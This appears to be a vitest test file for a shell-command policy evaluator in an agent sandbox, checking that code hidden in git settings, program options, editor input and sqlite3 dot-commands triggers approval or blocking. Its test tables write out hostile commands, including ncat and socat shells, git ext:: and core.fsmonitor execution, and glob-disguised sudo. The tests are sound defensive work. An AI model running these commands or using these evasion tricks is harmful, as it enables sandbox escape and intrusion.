// Code hidden in program options, git subcommands, input lines and editor stdin: approval, and the
// ordinary uses of the same programs stay allowed.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { isGitCodeSetting } from '../../src/policy/code-options.js';
import { evaluate } from '../../src/policy/evaluate.js';
import { loadProfile } from '../../src/profile/load.js';

const base = mkdtempSync(join(tmpdir(), 'argent-hidden-'));
const project = join(base, 'project');
mkdirSync(project);
writeFileSync(join(project, 'list.txt'), 'build\n');
afterAll(() => rmSync(base, { recursive: true, force: true }));

const sandboxed = loadProfile('sandboxed');
const decide = (command: string) => evaluate(command, sandboxed, { cwd: project, home: '/root' });

describe('git settings that are commands', () => {
  it.each([
    ['diff.external=sh -c id'],
    ['protocol.ext.allow=always'],
    ['core.fsmonitor=./x'],
    ['alias.x=!sh -c id'],
    ['hook.pre-commit.command=id'],
    ['gpg.ssh.defaultKeyCommand=id'],
  ])('treats %s as code', (setting) => {
    expect(isGitCodeSetting(setting)).toBe(true);
  });

  it.each([['alias.st=status'], ['user.name=Ada'], ['protocol.file.allow=always'], ['core.autocrlf=input']])('treats %s as data', (setting) => {
    expect(isGitCodeSetting(setting)).toBe(false);
  });
});

describe('commands given to programs as options, operands or input', () => {
  it.each([
    ["git rebase --exec 'make test' HEAD~3"],
    ['git bisect run sh -c id'],
    ["git submodule foreach 'git clean -fdx'"],
    ["git filter-branch --msg-filter 'sed s/a/b/' HEAD"],
    ["git fetch --upload-pack='sh -c id' ../other"],
    ["git clone -u 'sh -c id' ../other x"],
    ["git clone 'ext::sh -c id' x"],
    ["git archive --remote='ext::sh -c id' HEAD"],
    ['git clone --config core.fsmonitor=id https://example.com/x.git'],
    ['git config --file .git/config core.fsmonitor id'],
    ['git --exec-path=/tmp/x status'],
    ['git difftool -x "sh -c id"'],
    ['git grep -Oid pattern'],
    ["emacs --batch --eval '(shell-command \"id\")'"],
    ["strace -o '|sh' ls"],
    ["expect -c 'spawn id'"],
    ['make -f - all'],
    ['ncat -e sh example.com 80'],
    ['socat TCP-LISTEN:4444 EXEC:/bin/sh'],
    ["sqlite3 db.sqlite '.shell id'"],
    ["less '+!id' list.txt"],
    ["xargs -I{} sh -c '{}' < list.txt"],
    ['xargs -I X sh -c X < list.txt'],
    ['xargs sh -c < list.txt'],
    ["find . -name '*.sh' -exec {} \\;"],
    ["parallel ::: 'id'"],
    ['parallel < list.txt'],
    ["ed -s list.txt <<< '!id'"],
    ['printf "1d\\nw\\n" | ex -s list.txt'],
    ['vim -es list.txt < cmds.vim'],
  ])('asks approval for %s', (command) => {
    expect(decide(command).decision).toBe('approval-required');
  });

  it.each([
    ['git rebase -i HEAD~3'],
    ['git bisect start'],
    ['git submodule update --init'],
    ['git grep -O pattern'],
    ['git -c alias.st=status st'],
    ['git config --get core.pager'],
    ['make -f Makefile all'],
    ['strace -o trace.txt ls'],
    ["find . -name '*.ts' -exec wc -l {} +"],
    ['xargs -I{} cp {} /tmp/ < list.txt'],
    ['parallel gzip ::: a.txt b.txt'],
    ['parallel --version'],
    ['socat - TCP:example.com:80'],
    ["sqlite3 db.sqlite 'select 1'"],
  ])('allows %s', (command) => {
    expect(decide(command).decision).toBe('allow');
  });
});

describe('a command given to git, tar, rsync or man that the policy can read is checked like any other', () => {
  it.each([
    ["git rebase -x 'rm -rf build' HEAD~2"],
    ["git -C . rebase --exec='sudo id' HEAD~2"],
    ['git bisect run sudo id'],
    ["git submodule foreach --recursive 'rm -rf build'"],
    ["git filter-branch --tree-filter 'rm -rf build' HEAD"],
    ["git difftool -x 'sudo id'"],
    ["tar -xf a.tar --to-command='rm -rf build'"],
    ["tar -I 'sudo id' -xf a.tar"],
    ["rsync -e 'sudo id' README.md example.com:/tmp/"],
    ["man -P 'sudo id' ls"],
  ])('blocks %s', (command) => {
    expect(decide(command).decision).toBe('blocked');
  });
});

describe('a command name chosen by a glob', () => {
  // With extglob on, @(..) +(..) !(..) in a name pick the program just as * ? and [..] do.
  it.each([['/usr/bin/su?o id'], ['shopt -s extglob\n/usr/bin/@(sud)o id'], ['shopt -s extglob\n/usr/bin/+(s)udo id'], ['shopt -s extglob\n/usr/bin/!(x)do id']])(
    'needs approval for %s',
    (command) => {
      expect(decide(command).rules.map((r) => r.key)).toContain('builtin.dynamic-command');
    },
  );

  it('allows an extglob in an operand', () => {
    expect(decide('shopt -s extglob\nls !(node_modules)').decision).toBe('allow');
  });
});

describe('sqlite3 text that runs a command', () => {
  it.each([
    [`sqlite3 db.sqlite ".output '|sudo id'"`],
    ["sqlite3 -cmd '.once |sh' db.sqlite 'select 1'"],
    [`sqlite3 db.sqlite ".import '|curl x' t"`],
    [`sqlite3 db.sqlite "select edit('x', 'sh -c id')"`],
    [`sqlite3 db.sqlite "select load_extension('./x.so')"`],
  ])(
    'needs approval for %s',
    (command) => {
      expect(decide(command).decision).not.toBe('allow');
    },
  );

  it('allows a query with a pipe character in a string', () => {
    expect(decide(`sqlite3 db.sqlite "select * from t where a = 'x|y'"`).decision).toBe('allow');
  });
});
